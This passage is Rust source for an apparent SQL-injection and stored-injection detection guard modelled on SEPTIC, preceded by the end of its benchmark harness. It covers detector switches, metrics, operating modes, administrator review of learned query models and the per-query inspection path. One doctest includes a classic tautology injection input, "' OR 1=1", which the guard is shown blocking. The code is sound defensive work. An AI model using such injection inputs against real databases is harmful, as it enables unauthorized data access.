        println!("crash-recovery time (WAL replay vs checkpoint + tail replay):");
        println!("{}", recovery_table(&recovery_rows));
        // Recovery must be lossless in every cell, smoke or full.
        for row in &recovery_rows {
            assert_eq!(
                row.recovered_rows, row.commits,
                "recovery lost rows in the {} cell at {} commits",
                row.variant, row.commits
            );
        }
        println!("recovery smoke: every crashed commit came back in every cell OK");
    }
    println!("AST walker vs bytecode VM (YY, row-heavy table, zero pad):");
    println!("{}", engine_table(&report.engine_rows));
    println!("JOIN-bearing workload (YY, trained two-table join shapes):");
    println!("{}", throughput_table(&report.join_rows));

    let stage_rows: Vec<Vec<String>> = report
        .stages
        .iter()
        .map(|s| {
            vec![
                s.config.clone(),
                s.stage.clone(),
                s.count.to_string(),
                s.p50_us.to_string(),
                s.p95_us.to_string(),
                s.p99_us.to_string(),
            ]
        })
        .collect();
    println!(
        "{}",
        render_table(
            &["config", "stage", "spans", "p50 (us)", "p95 (us)", "p99 (us)"],
            &stage_rows
        )
    );

    let &max_threads = plan.threads.iter().max().expect("thread counts");
    if let Some(speedup) = report.speedup("YY", max_threads, 1) {
        println!("YY speedup {max_threads} threads vs 1: {speedup:.2}x");
        if smoke {
            // CI smoke: the concurrent path must at least not collapse.
            assert!(
                speedup > 1.2,
                "concurrent serving regressed: {max_threads}-thread YY only {speedup:.2}x 1-thread"
            );
        } else {
            assert!(
                speedup >= 3.0,
                "acceptance: {max_threads}-thread YY must be >= 3x 1-thread, got {speedup:.2}x"
            );
        }
    }

    if smoke && tcp {
        // CI smoke over the wire: every closed-loop client must complete
        // its full query count — admission control may never shed the
        // sized-to-fit client fleet, and no query may be lost to a frame
        // error. Both front ends are held to the identical bar.
        for (label, rows) in [
            ("blocking", &report.tcp_rows),
            ("event-loop", &report.tcp_event_rows),
        ] {
            for row in rows.iter() {
                assert_eq!(
                    row.queries,
                    plan.queries_per_thread as u64 * row.threads as u64,
                    "{label} tcp cell {}x{} lost queries",
                    row.config,
                    row.threads
                );
            }
        }
        println!("tcp smoke: all over-the-wire cells completed their full query count OK");
    }
    if tcp && !report.tcp_event_rows.is_empty() {
        // The event loop must keep up with the blocking front end on the
        // same closed-loop workload at the widest client count.
        let &max_threads = plan.threads.iter().max().expect("thread counts");
        let blocking = report.tcp_row("YY", max_threads).map(|r| r.qps);
        let event = report.tcp_event_row("YY", max_threads).map(|r| r.qps);
        if let (Some(blocking), Some(event)) = (blocking, event) {
            println!(
                "closed-loop YY @ {max_threads} clients: blocking {blocking:.0} qps, \
                 event loop {event:.0} qps ({:+.1}%)",
                (event / blocking - 1.0) * 100.0
            );
            assert!(
                event >= blocking * 0.8,
                "event loop collapsed vs blocking at {max_threads} clients: \
                 {event:.0} vs {blocking:.0} qps"
            );
        }
    }

    if smoke && open_loop {
        // CI smoke open loop: the offered rates are far below capacity,
        // so every scheduled request must complete with zero errors on
        // every front end.
        assert!(
            !report.open_loop_rows.is_empty(),
            "--open-loop produced no rows"
        );
        for row in &report.open_loop_rows {
            assert_eq!(
                row.completed, row.scheduled,
                "{} open-loop cell at {} qps dropped requests",
                row.front_end, row.offered_qps
            );
            assert_eq!(
                row.errors, 0,
                "{} open-loop cell at {} qps errored",
                row.front_end, row.offered_qps
            );
        }
        if event_loop_available {
            assert!(
                report
                    .open_loop_rows
                    .iter()
                    .any(|r| r.front_end == "event-loop"),
                "open-loop smoke missing event-loop rows"
            );
            let idle = report.idle_rows.first().expect("idle memory row");
            assert_eq!(idle.connections, 128);
        }
        println!("open-loop smoke: all scheduled requests completed on every front end OK");
    }

    // Every thread count must have a JOIN-workload cell, and in smoke mode
    // (where the duration cap never truncates) each cell must complete its
    // full count: benign trained joins may never be blocked.
    for &threads in &plan.threads {
        let row = report
            .join_row(threads)
            .unwrap_or_else(|| panic!("missing JOIN workload row at {threads} threads"));
        assert_eq!(row.config, "YY");
        if smoke {
            assert_eq!(
                row.queries,
                plan.queries_per_thread as u64 * threads as u64,
                "JOIN cell at {threads} threads lost queries"
            );
        }
    }

    // The smoke run must record at least one cell per engine; the full
    // run additionally reports the single-thread serving-cost ratio.
    for engine in ["ast", "vm"] {
        assert!(
            report.engine_rows.iter().any(|r| r.engine == engine),
            "missing {engine} engine row"
        );
    }
    let qps_of = |engine: &str| {
        report
            .engine_rows
            .iter()
            .find(|r| r.engine == engine && r.row.threads == 1)
            .map(|r| r.row.qps)
    };
    if let (Some(ast), Some(vm)) = (qps_of("ast"), qps_of("vm")) {
        println!(
            "single-thread serving: ast {ast:.0} qps, vm {vm:.0} qps ({:+.1}%)",
            (vm / ast - 1.0) * 100.0
        );
    }

    if smoke {
        prometheus_self_check();
    } else {
        let json = report.to_json().expect("serialize report");
        std::fs::write("BENCH_throughput.json", json).expect("write BENCH_throughput.json");
        println!("wrote BENCH_throughput.json");
    }
}
