//! The SEPTIC mechanism: the **QS&QM manager** orchestrating the ID
//! generator, attack detector, plugins and logger behind the DBMS's
//! pre-execution hook.
//!
//! Pipeline per query (Figure 1): receive the validated query → extract the
//! query structure (QS) → generate the query ID → look up the query model
//! (QM) → either learn (training / incremental) or detect (SQLI + stored
//! injection) → log → proceed or drop.

use std::io;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use parking_lot::RwLock;
use septic_dbms::{FailurePolicy, GuardDecision, QueryContext, QueryGuard};
use septic_telemetry::{Counter, Histogram, MetricsRegistry, MetricsSnapshot};

use crate::detector::{detect_sqli, SqliOutcome};
use crate::id::{IdGenerator, QueryId};
use crate::logger::{AttackAction, EventKind, Logger, StageSpansUs};
use crate::mode::{FailurePolicyMatrix, Mode, ModeActions};
use crate::model::QueryModel;
use crate::plugins::{default_plugins, scan_inputs, Plugin};
use crate::store::{CompiledModel, FsBackend, LoadReport, ModelStore};

/// Which detectors are enabled — the four combinations benchmarked in
/// Figure 5 (`NN`, `YN`, `NY`, `YY`; first letter = SQLI, second = stored
/// injection).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct DetectionConfig {
    /// SQLI detection on/off.
    pub sqli: bool,
    /// Stored-injection detection on/off.
    pub stored: bool,
}

impl DetectionConfig {
    /// Both detectors off (`NN`).
    pub const NN: DetectionConfig = DetectionConfig {
        sqli: false,
        stored: false,
    };
    /// SQLI only (`YN`).
    pub const YN: DetectionConfig = DetectionConfig {
        sqli: true,
        stored: false,
    };
    /// Stored injection only (`NY`).
    pub const NY: DetectionConfig = DetectionConfig {
        sqli: false,
        stored: true,
    };
    /// Both detectors on (`YY`).
    pub const YY: DetectionConfig = DetectionConfig {
        sqli: true,
        stored: true,
    };

    /// The paper's two-letter label.
    #[must_use]
    pub fn label(&self) -> &'static str {
        match (self.sqli, self.stored) {
            (false, false) => "NN",
            (true, false) => "YN",
            (false, true) => "NY",
            (true, true) => "YY",
        }
    }

    /// All four combinations, in the paper's order.
    #[must_use]
    pub fn all() -> [DetectionConfig; 4] {
        [Self::NN, Self::YN, Self::NY, Self::YY]
    }
}

impl Default for DetectionConfig {
    fn default() -> Self {
        DetectionConfig::YY
    }
}

/// Every per-query tunable in one `Copy` snapshot: operation mode,
/// detector switches, ablation flags, failure policies and the detection
/// deadline. [`Septic::inspect`] reads it with **one** lock acquisition
/// per query instead of taking four separate `RwLock`s; setters swap the
/// relevant field under the single write lock.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct EngineConfig {
    /// Operation mode (training / prevention / detection).
    pub mode: Mode,
    /// Which detectors are enabled (the Figure 5 ablation switch).
    pub detection: DetectionConfig,
    /// Ablation: restrict the SQLI detector to step 1 (structural only).
    pub structural_only: bool,
    /// Run model comparison through the compiled bytecode program (the
    /// default). Off = the interpreted QS/QM walker, kept as the
    /// differential oracle. Seeded from `SEPTIC_VM` (`0`/`off` disables)
    /// so CI can run the whole suite down both paths.
    pub use_vm: bool,
    /// What to do with a query when SEPTIC itself fails, per mode.
    pub failure_policies: FailurePolicyMatrix,
    /// Optional per-query detection time budget.
    pub deadline: Option<Duration>,
}

/// Whether the bytecode-VM hot paths are enabled by default: on, unless
/// the `SEPTIC_VM` environment variable says `0` or `off`.
#[must_use]
pub fn vm_default() -> bool {
    std::env::var("SEPTIC_VM").map_or(true, |v| v != "0" && !v.eq_ignore_ascii_case("off"))
}

impl Default for EngineConfig {
    fn default() -> Self {
        EngineConfig {
            mode: Mode::Training,
            detection: DetectionConfig::YY,
            structural_only: false,
            use_vm: vm_default(),
            failure_policies: FailurePolicyMatrix::default(),
            deadline: None,
        }
    }
}

/// Monotone counters exposed for the benchmarks and the status display.
///
/// Each field is a handle into the [`MetricsRegistry`] owned by
/// [`Septic`], resolved once at construction so the query hot path
/// records lock-free. The same values therefore show up in
/// [`Septic::counters`], [`Septic::metrics_snapshot`] and the
/// Prometheus export — one source of truth.
#[derive(Debug)]
pub struct Counters {
    pub queries_seen: Arc<Counter>,
    pub models_created: Arc<Counter>,
    pub models_found: Arc<Counter>,
    pub sqli_detected: Arc<Counter>,
    pub stored_detected: Arc<Counter>,
    /// All flagged attacks (SQLI + stored), regardless of the mode's
    /// drop/log action — the one number an operator trusts
    /// (`septic_attacks_total`).
    pub attacks_detected: Arc<Counter>,
    pub queries_dropped: Arc<Counter>,
    /// Detector/plugin panics contained by the fail-safe layer.
    pub guard_panics: Arc<Counter>,
    /// Detections that ran past the configured deadline budget.
    pub deadline_exceeded: Arc<Counter>,
    /// Queries that executed *despite* a SEPTIC failure because the mode's
    /// policy is fail-open.
    pub fail_open_passes: Arc<Counter>,
    /// Store loads that had to recover from a corrupt or missing snapshot.
    pub store_recoveries: Arc<Counter>,
    /// Events evicted from the bounded logger (mirror of
    /// [`Logger::dropped`]).
    pub log_drops: Arc<Counter>,
    /// SQLI detections on queries whose stacks carry `JOIN_ITEM` nodes —
    /// JOIN-clause piggybacking and friends. A query exercising several
    /// construct families counts in each.
    pub join_attacks: Arc<Counter>,
    /// SQLI detections on queries with `GROUP_FIELD`/`HAVING_ITEM` nodes.
    pub group_by_attacks: Arc<Counter>,
    /// SQLI detections on queries with `SUBSELECT_BEGIN` brackets.
    pub subquery_attacks: Arc<Counter>,
    /// Values recovered from durable storage and re-scanned after a
    /// restart ([`Septic::scan_stored`](septic_dbms::QueryGuard::scan_stored)).
    pub recovered_values: Arc<Counter>,
    /// Recovered values a stored-injection plugin flagged — payloads that
    /// were written to disk before this deployment existed.
    pub recovered_flagged: Arc<Counter>,
}

impl Counters {
    fn register(registry: &MetricsRegistry) -> Self {
        Counters {
            queries_seen: registry.counter("septic_queries_total"),
            models_created: registry.counter("septic_models_created_total"),
            models_found: registry.counter("septic_models_found_total"),
            sqli_detected: registry.counter("septic_sqli_detected_total"),
            stored_detected: registry.counter("septic_stored_detected_total"),
            attacks_detected: registry.counter("septic_attacks_total"),
            queries_dropped: registry.counter("septic_queries_dropped_total"),
            guard_panics: registry.counter("septic_guard_panics_total"),
            deadline_exceeded: registry.counter("septic_deadline_exceeded_total"),
            fail_open_passes: registry.counter("septic_fail_open_passes_total"),
            store_recoveries: registry.counter("septic_store_recoveries_total"),
            log_drops: registry.counter("septic_log_drops_total"),
            join_attacks: registry.counter("septic_join_attacks_total"),
            group_by_attacks: registry.counter("septic_group_by_attacks_total"),
            subquery_attacks: registry.counter("septic_subquery_attacks_total"),
            recovered_values: registry.counter("septic_recovered_values_total"),
            recovered_flagged: registry.counter("septic_recovered_flagged_total"),
        }
    }
}

/// Per-stage latency histograms for the query path, resolved once from
/// the registry (`septic_stage_duration_microseconds{stage="..."}`).
#[derive(Debug)]
struct StageTimers {
    inspect: Arc<Histogram>,
    id_gen: Arc<Histogram>,
    store_get: Arc<Histogram>,
    sqli_detect: Arc<Histogram>,
    stored_scan: Arc<Histogram>,
    store_save: Arc<Histogram>,
}

impl StageTimers {
    fn register(registry: &MetricsRegistry) -> Self {
        let stage = |name: &str| {
            registry.histogram(&format!(
                "septic_stage_duration_microseconds{{stage=\"{name}\"}}"
            ))
        };
        StageTimers {
            inspect: stage("inspect"),
            id_gen: stage("id_gen"),
            store_get: stage("store_get"),
            sqli_detect: stage("sqli_detect"),
            stored_scan: stage("stored_scan"),
            store_save: stage("store_save"),
        }
    }
}

/// Microseconds elapsed since `t`, saturating (see
/// [`septic_telemetry::saturating_micros`]).
fn span_us(t: Instant) -> u64 {
    septic_telemetry::saturating_micros(t.elapsed())
}

/// A point-in-time snapshot of [`Counters`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct CounterSnapshot {
    pub queries_seen: u64,
    pub models_created: u64,
    pub models_found: u64,
    pub sqli_detected: u64,
    pub stored_detected: u64,
    pub attacks_detected: u64,
    pub queries_dropped: u64,
    pub guard_panics: u64,
    pub deadline_exceeded: u64,
    pub fail_open_passes: u64,
    pub store_recoveries: u64,
    pub log_drops: u64,
    pub join_attacks: u64,
    pub group_by_attacks: u64,
    pub subquery_attacks: u64,
    pub recovered_values: u64,
    pub recovered_flagged: u64,
}

/// The SEPTIC mechanism. Install on a [`septic_dbms::Server`] with
/// `server.install_guard(septic)`.
///
/// # Examples
///
/// ```
/// use std::sync::Arc;
/// use septic::{Mode, Septic};
/// use septic_dbms::Server;
///
/// let server = Server::new();
/// let conn = server.connect();
/// conn.execute("CREATE TABLE t (a VARCHAR(20))")?;
///
/// let septic = Arc::new(Septic::new());
/// server.install_guard(septic.clone());
///
/// // Train, then prevent.
/// septic.set_mode(Mode::Training);
/// conn.execute("SELECT * FROM t WHERE a = 'benign'")?;
/// septic.set_mode(Mode::PREVENTION);
///
/// // The learned shape passes; the tautology is dropped.
/// assert!(conn.execute("SELECT * FROM t WHERE a = 'other'").is_ok());
/// assert!(conn.execute("SELECT * FROM t WHERE a = '' OR 1=1").is_err());
/// # Ok::<(), septic_dbms::DbError>(())
/// ```
pub struct Septic {
    /// All per-query tunables in one snapshot: one read per query.
    engine: RwLock<EngineConfig>,
    /// Interior-mutable (atomic flag + interner), so no outer lock.
    id_generator: IdGenerator,
    store: ModelStore,
    plugins: Vec<Box<dyn Plugin>>,
    logger: Logger,
    /// Registry behind `counters`/`stages`; the source for snapshots
    /// and the Prometheus export.
    metrics: MetricsRegistry,
    counters: Counters,
    stages: StageTimers,
}

impl Default for Septic {
    fn default() -> Self {
        Self::new()
    }
}

impl Septic {
    /// Creates SEPTIC in training mode with all detectors enabled and the
    /// default plugin set.
    #[must_use]
    pub fn new() -> Self {
        let metrics = MetricsRegistry::new();
        let counters = Counters::register(&metrics);
        let stages = StageTimers::register(&metrics);
        let store = ModelStore::new();
        store.attach_vm_metrics(&metrics);
        Septic {
            engine: RwLock::new(EngineConfig::default()),
            id_generator: IdGenerator::new(),
            store,
            plugins: default_plugins(),
            logger: Logger::default(),
            metrics,
            counters,
            stages,
        }
    }

    /// Creates SEPTIC with an explicit detector configuration.
    #[must_use]
    pub fn with_config(config: DetectionConfig) -> Self {
        let s = Self::new();
        s.engine.write().detection = config;
        s
    }

    /// The engine snapshot currently in effect (what the next query sees).
    #[must_use]
    pub fn engine_config(&self) -> EngineConfig {
        *self.engine.read()
    }

    /// Current operation mode.
    #[must_use]
    pub fn mode(&self) -> Mode {
        self.engine.read().mode
    }

    /// Switches the operation mode (logged, as the demo's status display
    /// shows).
    pub fn set_mode(&self, mode: Mode) {
        let mut engine = self.engine.write();
        if engine.mode != mode {
            self.log_event(EventKind::ModeChanged {
                from: engine.mode,
                to: mode,
            });
            engine.mode = mode;
        }
    }

    /// Current detector configuration.
    #[must_use]
    pub fn config(&self) -> DetectionConfig {
        self.engine.read().detection
    }

    /// Replaces the detector configuration (the Figure 5 switch).
    pub fn set_config(&self, config: DetectionConfig) {
        self.engine.write().detection = config;
    }

    /// Enables/disables use of external identifiers (ablation switch).
    pub fn set_use_external_ids(&self, on: bool) {
        self.id_generator.set_use_external(on);
    }

    /// Ablation switch: restrict the SQLI detector to step 1 (structural
    /// verification only) — quantifies what the syntactic step adds.
    pub fn set_structural_only(&self, on: bool) {
        self.engine.write().structural_only = on;
    }

    /// Switches model comparison between the compiled bytecode program
    /// (`true`, the default) and the interpreted QS/QM walker kept as
    /// the differential oracle (`false`).
    pub fn set_use_vm(&self, on: bool) {
        self.engine.write().use_vm = on;
    }

    /// The per-mode failure policies in effect.
    #[must_use]
    pub fn failure_policies(&self) -> FailurePolicyMatrix {
        self.engine.read().failure_policies
    }

    /// Replaces the per-mode failure policies (operator override; the
    /// defaults follow each mode's contract).
    pub fn set_failure_policies(&self, matrix: FailurePolicyMatrix) {
        self.engine.write().failure_policies = matrix;
    }

    /// Sets (or with `None`, clears) the per-query detection deadline
    /// budget. When detection takes longer, the degradation is counted and
    /// the mode's failure policy decides whether an *uncleared* query may
    /// still execute. A flagged attack is blocked regardless — slowness
    /// never downgrades a positive detection.
    pub fn set_detection_deadline(&self, budget: Option<Duration>) {
        self.engine.write().deadline = budget;
    }

    /// Turns SEPTIC event recording on or off (see [`Logger::set_enabled`]).
    /// While off, the query path also skips *building* event payloads.
    pub fn set_event_logging(&self, on: bool) {
        self.logger.set_enabled(on);
    }

    /// Adds a stored-injection plugin to the scan chain.
    pub fn add_plugin(&mut self, plugin: Box<dyn Plugin>) {
        self.plugins.push(plugin);
    }

    /// Starts journaling store mutations next to `path` (see
    /// [`ModelStore::attach_persistence`]): models learned incrementally
    /// between checkpoints survive a crash.
    pub fn attach_persistence(&self, path: impl Into<PathBuf>) {
        self.store.attach_persistence(Arc::new(FsBackend), path);
    }

    /// The learned-model store.
    #[must_use]
    pub fn store(&self) -> &ModelStore {
        &self.store
    }

    /// The event register.
    #[must_use]
    pub fn logger(&self) -> &Logger {
        &self.logger
    }

    /// Counter snapshot.
    #[must_use]
    pub fn counters(&self) -> CounterSnapshot {
        CounterSnapshot {
            queries_seen: self.counters.queries_seen.get(),
            models_created: self.counters.models_created.get(),
            models_found: self.counters.models_found.get(),
            sqli_detected: self.counters.sqli_detected.get(),
            stored_detected: self.counters.stored_detected.get(),
            attacks_detected: self.counters.attacks_detected.get(),
            queries_dropped: self.counters.queries_dropped.get(),
            guard_panics: self.counters.guard_panics.get(),
            deadline_exceeded: self.counters.deadline_exceeded.get(),
            fail_open_passes: self.counters.fail_open_passes.get(),
            store_recoveries: self.counters.store_recoveries.get(),
            log_drops: self.counters.log_drops.get(),
            join_attacks: self.counters.join_attacks.get(),
            group_by_attacks: self.counters.group_by_attacks.get(),
            subquery_attacks: self.counters.subquery_attacks.get(),
            recovered_values: self.counters.recovered_values.get(),
            recovered_flagged: self.counters.recovered_flagged.get(),
        }
    }

    /// The telemetry registry behind SEPTIC's counters and per-stage
    /// latency histograms. Hot-path handles are resolved once at
    /// construction; the registry itself is only locked by snapshots.
    #[must_use]
    pub fn metrics(&self) -> &MetricsRegistry {
        &self.metrics
    }

    /// Point-in-time copy of every SEPTIC metric — counters
    /// (`septic_*_total`) and stage histograms
    /// (`septic_stage_duration_microseconds{stage="..."}`).
    #[must_use]
    pub fn metrics_snapshot(&self) -> MetricsSnapshot {
        self.metrics.snapshot()
    }

    /// The metrics in Prometheus text exposition format.
    #[must_use]
    pub fn prometheus(&self) -> String {
        self.metrics_snapshot().to_prometheus()
    }

    /// Persists the learned models ("stored persistently").
    ///
    /// # Errors
    ///
    /// I/O or serialization failures.
    pub fn save_models(&self, path: &Path) -> io::Result<()> {
        let t = Instant::now();
        let res = self.store.save_to(path);
        self.stages.store_save.record_us(span_us(t));
        res
    }

    /// Loads persisted models, replacing the in-memory set, and logs the
    /// event (the demo restarts MySQL and reloads models before phase D).
    /// A corrupt snapshot is quarantined and recovered from, not an error
    /// — the [`LoadReport`] says what happened, and recoveries are
    /// counted.
    ///
    /// # Errors
    ///
    /// Only when there is nothing at all to load (see
    /// [`ModelStore::load_from`]).
    pub fn load_models(&self, path: &Path) -> io::Result<LoadReport> {
        let report = self.store.load_from(path)?;
        if report.recovered {
            Self::bump(&self.counters.store_recoveries);
        }
        self.log_event(EventKind::StoreLoaded {
            count: self.store.len(),
        });
        Ok(report)
    }

    /// Identifiers of incrementally-learned models awaiting administrator
    /// review (Section II-E).
    #[must_use]
    pub fn pending_review(&self) -> Vec<crate::QueryId> {
        self.store.pending_review()
    }

    /// Administrator verdict: the reviewed model is benign and becomes
    /// permanent.
    pub fn approve_model(&self, id: &crate::QueryId) -> bool {
        self.store.approve(id)
    }

    /// Administrator verdict: the reviewed model was learned from a
    /// malicious query; it is removed and the identifier refused from now
    /// on.
    pub fn reject_model(&self, id: &crate::QueryId) -> bool {
        self.store.reject(id)
    }

    /// Renders the "SEPTIC status" display of the demo setup (Figure 7):
    /// mode, detector switches, model counts and counters.
    #[must_use]
    pub fn status_report(&self) -> String {
        let counters = self.counters();
        let pending = self.store.pending_review();
        let mut out = String::new();
        out.push_str("SEPTIC status\n");
        out.push_str(&format!("  mode            : {}\n", self.mode()));
        out.push_str(&format!(
            "  detectors       : {} (SQLI={}, stored={})\n",
            self.config().label(),
            self.config().sqli,
            self.config().stored
        ));
        out.push_str(&format!("  models learned  : {}\n", self.store.len()));
        out.push_str(&format!("  pending review  : {}\n", pending.len()));
        out.push_str(&format!("  queries seen    : {}\n", counters.queries_seen));
        out.push_str(&format!("  SQLI detected   : {}\n", counters.sqli_detected));
        out.push_str(&format!(
            "  stored detected : {}\n",
            counters.stored_detected
        ));
        out.push_str(&format!(
            "  attacks total   : {}\n",
            counters.attacks_detected
        ));
        out.push_str(&format!(
            "  by construct    : join={} group_by={} subquery={}\n",
            counters.join_attacks, counters.group_by_attacks, counters.subquery_attacks
        ));
        out.push_str(&format!(
            "  queries dropped : {}\n",
            counters.queries_dropped
        ));
        out.push_str(&format!(
            "  failure policy  : {}\n",
            self.failure_policies().for_mode(self.mode())
        ));
        out.push_str(&format!(
            "  guard panics    : {} (fail-open passes: {})\n",
            counters.guard_panics, counters.fail_open_passes
        ));
        out.push_str(&format!(
            "  deadline misses : {}\n",
            counters.deadline_exceeded
        ));
        out.push_str(&format!(
            "  store recoveries: {}\n",
            counters.store_recoveries
        ));
        out.push_str(&format!(
            "  recovered scan  : {} values, {} flagged\n",
            counters.recovered_values, counters.recovered_flagged
        ));
        out.push_str(&format!("  log drops       : {}\n", counters.log_drops));
        out
    }

    fn bump(counter: &Counter) {
        counter.inc();
    }

    /// Records an event, mirroring the logger's eviction count into the
    /// `log_drops` counter so degradation shows up in snapshots.
    fn log_event(&self, kind: EventKind) {
        if !self.logger.is_enabled() {
            return;
        }
        self.logger.record(kind);
        self.counters.log_drops.set(self.logger.dropped());
    }

    /// Hot-path variant of [`Septic::log_event`]: the event (and its
    /// `String`/`QueryId` payload allocations) is only built when the
    /// logger will actually keep it.
    fn log_event_with(&self, kind: impl FnOnce() -> EventKind) {
        if !self.logger.is_enabled() {
            return;
        }
        self.logger.record(kind());
        self.counters.log_drops.set(self.logger.dropped());
    }

    /// The detection half of [`Septic::inspect`]: SQLI + stored-injection
    /// scans over a known model. Runs under `catch_unwind` so a panicking
    /// detector or plugin degrades per the failure policy instead of
    /// taking the whole guard down. Returns the block decision, if any;
    /// stage timings are written into `spans` as each stage completes,
    /// so a later panic or deadline report still sees the partial spans.
    fn run_detectors(
        &self,
        ctx: &QueryContext<'_>,
        compiled: &CompiledModel,
        id: &QueryId,
        engine: &EngineConfig,
        actions: ModeActions,
        spans: &mut StageSpansUs,
    ) -> Option<GuardDecision> {
        let qs = ctx.stack;
        let model: &QueryModel = compiled.model();
        let config = engine.detection;
        let action = if actions.drop_on_attack {
            AttackAction::Dropped
        } else {
            AttackAction::LoggedOnly
        };

        // SQLI detection (structural + syntactic; optionally step 1 only
        // for the detector ablation). The compiled bytecode program is the
        // default; the interpreted QS/QM walker stays selectable as the
        // differential oracle.
        if config.sqli && actions.detect_sqli {
            let t = Instant::now();
            let outcome = if engine.structural_only {
                crate::detector::detect_sqli_structural_only(qs, model)
            } else if engine.use_vm {
                crate::detector::detect_sqli_vm(compiled.program(), qs, model)
            } else {
                detect_sqli(qs, model)
            };
            spans.sqli_us = span_us(t);
            self.stages.sqli_detect.record_us(spans.sqli_us);
            if let SqliOutcome::Attack(kind) = outcome {
                Self::bump(&self.counters.sqli_detected);
                Self::bump(&self.counters.attacks_detected);
                // Attribute the detection to the construct families the
                // offending stack exercises, so the observability layer can
                // say which part of the SQL surface is under attack.
                let profile = qs.construct_profile();
                if profile.join {
                    Self::bump(&self.counters.join_attacks);
                }
                if profile.group_by {
                    Self::bump(&self.counters.group_by_attacks);
                }
                if profile.subquery {
                    Self::bump(&self.counters.subquery_attacks);
                }
                self.log_event_with(|| EventKind::SqliDetected {
                    id: id.clone(),
                    kind: kind.clone(),
                    action,
                    query: ctx.decoded_sql.to_string(),
                });
                if actions.drop_on_attack {
                    Self::bump(&self.counters.queries_dropped);
                    return Some(GuardDecision::Block(format!("SQLI [{kind}] id={id}")));
                }
            }
        }

        // Stored-injection detection over INSERT/UPDATE user data.
        if config.stored && actions.detect_stored && !ctx.write_data.is_empty() {
            let t = Instant::now();
            let found = scan_inputs(&self.plugins, ctx.write_data);
            spans.stored_us = span_us(t);
            self.stages.stored_scan.record_us(spans.stored_us);
            if let Some(found) = found {
                Self::bump(&self.counters.stored_detected);
                Self::bump(&self.counters.attacks_detected);
                self.log_event_with(|| EventKind::StoredDetected {
                    id: id.clone(),
                    attack: found.clone(),
                    action,
                    query: ctx.decoded_sql.to_string(),
                });
                if actions.drop_on_attack {
                    Self::bump(&self.counters.queries_dropped);
                    return Some(GuardDecision::Block(format!(
                        "stored injection [{found}] id={id}"
                    )));
                }
            }
        }

        None
    }
}

fn panic_message(payload: &(dyn std::any::Any + Send)) -> String {
    if let Some(s) = payload.downcast_ref::<&str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

impl QueryGuard for Septic {
    fn inspect(&self, ctx: &QueryContext<'_>) -> GuardDecision {
        let whole = Instant::now();
        let decision = self.inspect_timed(ctx);
        self.stages.inspect.record_us(span_us(whole));
        decision
    }

    fn name(&self) -> &str {
        "septic"
    }

    fn failure_policy(&self) -> FailurePolicy {
        let engine = self.engine.read();
        engine.failure_policies.for_mode(engine.mode)
    }

    fn metrics(&self) -> Option<MetricsSnapshot> {
        Some(self.metrics_snapshot())
    }

    /// Post-recovery re-detection: runs every recovered string cell
    /// through the stored-injection plugin chain, exactly as if it were
    /// arriving write data. Payloads stored *before* this SEPTIC
    /// deployment existed (or before a restart) are flagged here —
    /// second-order attacks do not get amnesty from a reboot.
    ///
    /// Honours the stored-injection ablation switch: with
    /// `detection.stored` off (NN/YN) the scan is a no-op, keeping the
    /// Figure 5 defense configurations coherent across restarts.
    fn scan_stored(&self, values: &[String]) -> usize {
        if !self.engine.read().detection.stored {
            return 0;
        }
        let mut flagged = 0;
        for value in values {
            self.counters.recovered_values.inc();
            let found = catch_unwind(AssertUnwindSafe(|| {
                scan_inputs(&self.plugins, std::slice::from_ref(value))
            }));
            match found {
                Ok(Some(attack)) => {
                    flagged += 1;
                    Self::bump(&self.counters.recovered_flagged);
                    self.log_event_with(|| EventKind::RecoveredDataFlagged {
                        attack: attack.clone(),
                        value: value.clone(),
                    });
                }
                Ok(None) => {}
                Err(_) => {
                    // A panicking plugin is contained per value: counted,
                    // and the sweep keeps going over the rest of the data.
                    Self::bump(&self.counters.guard_panics);
                }
            }
        }
        flagged
    }
}

impl Septic {
    /// The body of [`Septic::inspect`], with per-stage span timing
    /// threaded through so slow queries are attributable to a stage.
    fn inspect_timed(&self, ctx: &QueryContext<'_>) -> GuardDecision {
        Self::bump(&self.counters.queries_seen);
        let mut spans = StageSpansUs::default();
        // One lock acquisition for every per-query tunable.
        let engine = *self.engine.read();
        let actions = ModeActions::for_mode(engine.mode);

        // QS&QM manager: QS is the validated item stack; ask the ID
        // generator for the query identifier (no lock: the generator is
        // interior-mutable, external ids are interned `Arc<str>`s).
        let qs = ctx.stack;
        let t = Instant::now();
        let id = self.id_generator.generate(qs, ctx.comments);
        spans.id_gen_us = span_us(t);
        self.stages.id_gen.record_us(spans.id_gen_us);
        self.log_event_with(|| EventKind::QueryProcessed {
            id: id.clone(),
            command: ctx.command().to_string(),
        });

        if actions.qm_training {
            // Training mode: learn; the query executes normally.
            let model = QueryModel::from_structure(qs);
            if self.store.learn(id.clone(), model) {
                Self::bump(&self.counters.models_created);
                self.log_event_with(|| EventKind::ModelCreated {
                    id: id.clone(),
                    incremental: false,
                });
            }
            return GuardDecision::Proceed;
        }

        // Identifiers the administrator rejected are refused outright
        // instead of being re-learned.
        let t = Instant::now();
        let rejected = self.store.is_rejected(&id);
        let compiled = if rejected {
            None
        } else {
            self.store.get_compiled(&id)
        };
        spans.store_get_us = span_us(t);
        self.stages.store_get.record_us(spans.store_get_us);
        if rejected {
            Self::bump(&self.counters.queries_dropped);
            self.log_event_with(|| EventKind::RejectedQueryRefused {
                id: id.clone(),
                query: ctx.decoded_sql.to_string(),
            });
            return GuardDecision::Block(format!("query id {id} rejected by administrator"));
        }

        // Normal mode: the model (with its compiled comparison program)
        // was fetched above (a shard read lock + `Arc` refcount bumps,
        // never a deep clone); a miss is learned incrementally (into
        // quarantine, pending administrator review — Section II-E).
        let Some(compiled) = compiled else {
            let model = QueryModel::from_structure(qs);
            self.store.learn_provisional(id.clone(), model);
            Self::bump(&self.counters.models_created);
            self.log_event_with(|| EventKind::ModelCreated {
                id: id.clone(),
                incremental: true,
            });
            // The administrator later decides whether the new model came
            // from a benign query (Section II-E); the query proceeds.
            return GuardDecision::Proceed;
        };
        Self::bump(&self.counters.models_found);
        self.log_event_with(|| EventKind::ModelFound { id: id.clone() });

        // Run the detectors with panic isolation and a time budget: SEPTIC
        // failing must never take the server down, and what happens to the
